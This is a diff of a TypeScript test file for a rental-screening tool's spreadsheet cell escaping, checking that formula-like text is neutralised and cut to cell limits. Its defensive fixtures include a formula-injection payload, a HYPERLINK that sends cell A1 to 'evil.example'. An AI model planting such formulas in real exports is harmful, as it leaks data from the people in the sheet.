@@ -5,82 +5,79 @@ import {
 	computeAverage,
 	toOneLine,
 	toPercent,
+	toPlainText,
 	readRow,
 	escapeCell,
 	escapeCells,
 	formatForReport,
 	type Format,
 } from '../../../nodes/RentalScreening/results/cells.ts';
-import { isRecord, looseObjects } from '../../../nodes/RentalScreening/core/json.ts';
-import { toPlainText } from '../../../nodes/RentalScreening/results/cells.ts';
 
 /** The cell of a column of numbers. */
 const toNumber = (value: unknown) =>
 	readRow([{ name: 'n', format: 'number', read: (given: unknown) => given }], value).n;
 
-describe('text for a spreadsheet', () => {
-	test('gets a word in front where it would run as a formula', () => {
-		const formulas = [
-			...['=1+1', '=HYPERLINK("http://evil.example?"&A1,"Click")', '+1+1', '-1-1', '-', '@SUM(A1)'],
-			...['\t=1+1', ' =1+1', '\u00A0=1+1', '\u200B=1+1', '\uFEFF=1+1', '\u0000=1+1', "' '+1+1"],
-			...['+1-416-555-0100', '+1 416 555 0100', '-12.5+1', '+14165550100=1'],
-		];
-		expect(formulas.map(escapeCell)).toEqual(formulas.map((text) => `Text: ${text}`));
-		const others = [
-			...['', 'Jane', '2026-03-01', 'a=b', 'jane@example.com', '(+1)', "'Twas nice"],
-			...['Text: =1+1', '\tplain', '＝1+1', '+14165550100', '-12.5', '+0.25'],
-		];
-		expect(others.map(escapeCell)).toEqual(others);
-	});
+test('a cell that would run as a formula gets a word in front', () => {
+	const formulas = [
+		...['=1+1', '=HYPERLINK("http://evil.example?"&A1,"Click")', '+1+1', '-1-1', '-', '@SUM(A1)'],
+		...['\t=1+1', ' =1+1', '\u00A0=1+1', '\u200B=1+1', '\uFEFF=1+1', '\u0000=1+1', "' '+1+1"],
+		...['+1-416-555-0100', '+1 416 555 0100', '-12.5+1', '+14165550100=1'],
+	];
+	expect(formulas.map(escapeCell)).toEqual(formulas.map((text) => `Text: ${text}`));
+	const others = [
+		...['', 'Jane', '2026-03-01', 'a=b', 'jane@example.com', '(+1)', "'Twas nice"],
+		...['Text: =1+1', '\tplain', '＝1+1', '+14165550100', '-12.5', '+0.25'],
+	];
+	expect(others.map(escapeCell)).toEqual(others);
+});
 
-	test.each([
-		['a'.repeat(32_767), 'a'.repeat(32_767)],
-		['a'.repeat(32_768), `${'a'.repeat(32_766)}…`],
-		[`=${'a'.repeat(32_767)}`, `Text: =${'a'.repeat(32_759)}…`],
-		[`${'a'.repeat(32_765)}😀bc`, `${'a'.repeat(32_765)}…`],
-	])('is at most as long as a cell may be (case %#)', (text, expected) => {
-		expect(escapeCell(text)).toBe(expected);
-	});
+test.each([
+	['a'.repeat(32_767), 'a'.repeat(32_767)],
+	['a'.repeat(32_768), `${'a'.repeat(32_766)}…`],
+	[`=${'a'.repeat(32_767)}`, `Text: =${'a'.repeat(32_759)}…`],
+	[`${'a'.repeat(32_765)}😀bc`, `${'a'.repeat(32_765)}…`],
+])('a cell has at most 32,767 characters: case %#', (text, expected) => {
+	expect(escapeCell(text)).toBe(expected);
+});
 
-	test('is cut where it has many millions of invisible characters', () => {
-		expect(escapeCell('\u200b'.repeat(8_000_000))).toHaveLength(32_767);
-		expect(escapeCell('\r\n'.repeat(40_000))).toBe(`${' '.repeat(32_766)}…`);
-	});
+test('a cell of many millions of invisible characters is cut', () => {
+	expect(escapeCell('\u200b'.repeat(8_000_000))).toHaveLength(32_767);
+	expect(escapeCell('\r\n'.repeat(40_000))).toBe(`${' '.repeat(32_766)}…`);
+});
 
-	test('is one line, never begins like a formula and loses nothing but line breaks, for any text', () => {
-		expect(escapeCell('a\r\nb\r\v\u0085c\u2028\u2029=1')).toBe('a b   c  =1');
-		const lineBreaks = /\r\n|[\n\v\f\r\u0085\u2028\u2029]/g;
-		const starts = fc.constantFrom('', '=', '+', '-', '@', '\t', '\r', '\u2028', '\v=', '-12.5\n=');
-		fc.assert(
-			fc.property(fc.string({ unit: 'binary' }), starts, (rest, start) => {
-				const text = `${start}${rest}`.replace(lineBreaks, ' ');
-				const safe = escapeCell(start + rest);
-				expect([text, `Text: ${text}`]).toContain(safe);
-				if (/^\s*[=+\-@]/.test(safe)) expect(Number.isFinite(Number(safe))).toBe(true);
-			}),
-		);
-	});
+test('a cell of any text is one line, never begins like a formula and loses nothing but line breaks', () => {
+	expect(escapeCell('a\r\nb\r\v\u0085c\u2028\u2029=1')).toBe('a b   c  =1');
+	const lineBreaks = /\r\n|[\n\v\f\r\u0085\u2028\u2029]/g;
+	const starts = fc.constantFrom('', '=', '+', '-', '@', '\t', '\r', '\u2028', '\v=', '-12.5\n=');
+	fc.assert(
+		fc.property(fc.string({ unit: 'binary' }), starts, (rest, start) => {
+			const text = `${start}${rest}`.replace(lineBreaks, ' ');
+			const safe = escapeCell(start + rest);
+			expect([text, `Text: ${text}`]).toContain(safe);
+			if (/^\s*[=+\-@]/.test(safe)) expect(Number.isFinite(Number(safe))).toBe(true);
+		}),
+	);
+});
 
-	test('is all of a flat answer but its IDs, which later steps send back', () => {
-		const ids = { id: '=1', userId: '+abC/9==' };
-		const answer = {
-			...ids,
-			note: '=1+1',
-			paid: '=1+1',
-			idea: '=1+1',
-			score: -5,
-			list: ['=1'],
-			none: null,
-		};
-		expect(escapeCells(answer)).toEqual({
-			...answer,
-			...{ note: 'Text: =1+1', paid: 'Text: =1+1', idea: 'Text: =1+1' },
-		});
-		for (const id of ['-NxYz_0123', '=1+1', 'a\nb', '0'.repeat(40_000)]) {
-			const read = (given: string) => given;
-			expect(readRow([{ name: 'userId', format: 'id', read }], id)).toEqual({ userId: id });
-		}
+test('all texts of an answer are safe cells but its IDs, which later steps send back', () => {
+	const ids = { id: '=1', userId: '+abC/9==' };
+	const answer = {
+		...ids,
+		note: '=1+1',
+		paid: '=1+1',
+		idea: '=1+1',
+		score: -5,
+		list: ['=1'],
+		none: null,
+	};
+	expect(escapeCells(answer)).toEqual({
+		...answer,
+		...{ note: 'Text: =1+1', paid: 'Text: =1+1', idea: 'Text: =1+1' },
 	});
+	for (const id of ['-NxYz_0123', '=1+1', 'a\nb', '0'.repeat(40_000)]) {
+		const read = (given: string) => given;
+		expect(readRow([{ name: 'userId', format: 'id', read }], id)).toEqual({ userId: id });
+	}
 });
 
 test.each<[Format, unknown, string | null]>([
@@ -111,29 +108,38 @@ test.each<[Format, unknown, string | null]>([
 	['text', '\u200B', null],
 	['text', 'a'.repeat(320), 'a'.repeat(320)],
 	['text', 'a'.repeat(321), `${'a'.repeat(319)}…`],
-])('as %s: a report shows %j as %j', (format, value, shown) => {
+])('a report shows %s %j as %j', (format, value, shown) => {
 	expect(formatForReport(format, value)).toBe(shown);
 });
 
-test('reads texts, numbers and objects of any value', () => {
+test('text is read without blanks at its ends, numbers and booleans as text, and nothing else', () => {
 	expect([' one\n two', 0, false].map(toPlainText)).toEqual(['one\n two', '0', 'false']);
 	expect([' \t', null, undefined, {}, ['a']].map(toPlainText)).toEqual(Array(5).fill(null));
-	expect(['  one\r\n\t two  three ', ' \n ', null].map(toOneLine)).toEqual([
-		'one two three',
-		'',
-		'',
-	]);
-	expect([0, -2.5, '12', ' 12.50 ', '+3', '-0.125'].map(toNumber)).toEqual([
-		...[0, -2.5, 12, 12.5, 3, -0.125],
-	]);
-	const none = ['', 'x12', '12 CAD', '1,200', '1.', '.5', '1e3', '0x10', Infinity, NaN, true, [7]];
-	expect(none.filter((value) => toNumber(value) !== null)).toEqual([]);
-	expect([{ a: 1 }, null, ['x'], 'text'].filter(isRecord)).toEqual([{ a: 1 }]);
-	expect(looseObjects([{ a: 1 }, null, ['x'], { b: 2 }])).toEqual([{ a: 1 }, { b: 2 }]);
-	expect(looseObjects({ 0: { a: 1 } })).toEqual([]);
+	const lines = ['  one\r\n\t two  three ', ' \n ', null].map(toOneLine);
+	expect(lines).toEqual(['one two three', '', '']);
 });
 
-test('means and percentages are of the numbers that there are', () => {
+test('a number is read from plain decimal text too', () => {
+	const numbers = [0, -2.5, '12', ' 12.50 ', '+3', '-0.125'].map(toNumber);
+	expect(numbers).toEqual([0, -2.5, 12, 12.5, 3, -0.125]);
+	const others = [
+		'',
+		'x12',
+		'12 CAD',
+		'1,200',
+		'1.',
+		'.5',
+		'1e3',
+		'0x10',
+		Infinity,
+		NaN,
+		true,
+		[7],
+	];
+	expect(others.filter((value) => toNumber(value) !== null)).toEqual([]);
+});
+
+test('averages and percentages are of the values that are numbers', () => {
 	const means = [[5, 4, 4], ['5', null, 'often', 2], ['often'], []].map(computeAverage);
 	expect(means).toEqual([4.33, 3.5, NaN, NaN]);
 	expect([toPercent(2100, 6250), toPercent('0', '6250')]).toEqual([33.6, 0]);
@@ -173,7 +179,7 @@ test.each<[unknown, string, string]>([
 	},
 );
 
-test('a flag is described by the first of these members; without any value it is none', () => {
+test('a flag is described by its first filled member, description before code; without a value it is none', () => {
 	const names = ['description', 'message', 'title', 'name', 'reason', 'type', 'code'];
 	for (const [at, name] of names.entries()) {
 		const others = names.slice(at).map((other) => [other, `says ${other}`]);
